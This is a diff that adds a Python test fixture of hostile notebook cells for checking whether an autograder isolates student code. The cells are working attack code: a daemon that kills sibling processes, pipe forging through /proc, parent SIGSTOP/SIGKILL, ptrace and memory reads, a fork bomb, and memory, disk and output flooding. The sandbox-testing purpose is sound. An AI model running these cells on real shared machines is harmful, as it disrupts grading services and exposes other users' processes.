@@ -1,0 +1,140 @@
+"""Hostile cells: what a student stuck at midnight might try against the machinery that grades
+them. Each is a cell added to an otherwise correct notebook 1. The isolation tests grade each
+one followed by an honest student on the same worker; bench/attacks.py runs them against
+stock nbgrader too. Every attack is bounded in time and size, since under stock nbgrader it
+runs unconfined on the grading machine."""
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    what: str  # in plain words, for the README table
+    source: str
+
+
+ATTACKS = [
+    Attack("survivor", "a double-forked, setsid daemon kills, for 60 s, every new process whose parent is the "
+           "notebook's parent", """
+import os, signal, time
+target = os.getppid()
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        end = time.time() + 60
+        while time.time() < end:
+            for entry in os.listdir('/proc'):
+                try:
+                    if entry.isdigit() and int(entry) != os.getpid():
+                        with open(f'/proc/{entry}/stat') as f:
+                            if int(f.read().rsplit(')', 1)[1].split()[1]) == target:
+                                os.kill(int(entry), signal.SIGKILL)
+                except (OSError, ValueError):
+                    pass
+            time.sleep(0.01)
+    os._exit(0)
+time.sleep(0.2)
+"""),
+    Attack("forged-reply", "writes a well-formed reply (a frame and a JSON line) into every pipe of every process "
+           "it can open through /proc", """
+import os, json, struct
+forged = json.dumps({"nonce": "0" * 32, "outputs": [], "stopped": None, "truncated": False, "seconds": 0.0})
+payload = struct.pack(">I", len(forged)) + forged.encode() + b"\\n" + forged.encode() + b"\\n"
+reached = 0
+for entry in os.listdir('/proc'):
+    if not entry.isdigit() or int(entry) == os.getpid():
+        continue
+    try:
+        fds = os.listdir(f'/proc/{entry}/fd')
+    except OSError:
+        continue
+    for fd in fds:
+        try:
+            path = f'/proc/{entry}/fd/{fd}'
+            if os.readlink(path).startswith('pipe:'):
+                with open(path, 'wb', buffering=0) as f:
+                    f.write(payload)
+                reached += 1
+        except OSError:
+            pass
+print('pipes reached:', reached)
+"""),
+    Attack("stop-parent", "sends SIGSTOP to its parent process", """
+import os, signal
+os.kill(os.getppid(), signal.SIGSTOP)
+"""),
+    Attack("kill-parent", "sends SIGKILL to its parent process", """
+import os, signal
+os.kill(os.getppid(), signal.SIGKILL)
+"""),
+    Attack("ptrace", "attaches with ptrace to every process it can see and reads its memory", """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+attached = 0
+for entry in os.listdir('/proc'):
+    if entry.isdigit() and int(entry) != os.getpid():
+        if libc.ptrace(16, int(entry), None, None) == 0:  # PTRACE_ATTACH
+            attached += 1
+            libc.ptrace(17, int(entry), None, None)  # PTRACE_DETACH
+        try:
+            open(f'/proc/{entry}/mem', 'rb').close()
+            attached += 1
+        except OSError:
+            pass
+print('attached:', attached)
+"""),
+    Attack("fork-bomb", "forks up to 1,000 sleeping processes", """
+import os, time
+forked = 0
+try:
+    for _ in range(1000):
+        if os.fork() == 0:
+            time.sleep(60)
+            os._exit(0)
+        forked += 1
+except OSError:
+    pass
+print('forked:', forked)
+"""),
+    Attack("memory-split", "six processes of 1 GiB each: each under the per-process limit, 6 GiB together", """
+import os, time, torch
+children = []
+for _ in range(6):
+    pid = os.fork()
+    if pid == 0:
+        block = torch.ones(2**28)  # 1 GiB, touched
+        time.sleep(10)
+        os._exit(0)
+    children.append(pid)
+for pid in children:
+    os.waitpid(pid, 0)
+"""),
+    Attack("disk-fill", "writes 512 MiB each to /tmp, /dev/shm and its working folder", """
+import os
+written = 0
+for folder in ('/tmp', '/dev/shm', '.'):
+    try:
+        with open(os.path.join(folder, 'autograde-attack-fill'), 'wb') as f:
+            for _ in range(512):
+                f.write(b'\\0' * 2**20)
+                written += 1
+    except OSError:
+        pass
+print('MiB written:', written)
+"""),
+    Attack("channel-flood", "writes 200 MiB straight into its own output pipes, past the output cap", """
+import os
+for fd in os.listdir('/proc/self/fd'):
+    try:
+        if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):
+            for _ in range(200):
+                os.write(int(fd), b'x' * 2**20)
+    except OSError:
+        pass
+"""),
+]
+
+# Files the attacks leave on an unconfined machine, removed after a stock run.
+LEFTOVERS = ["/tmp/autograde-attack-fill", "/dev/shm/autograde-attack-fill"]
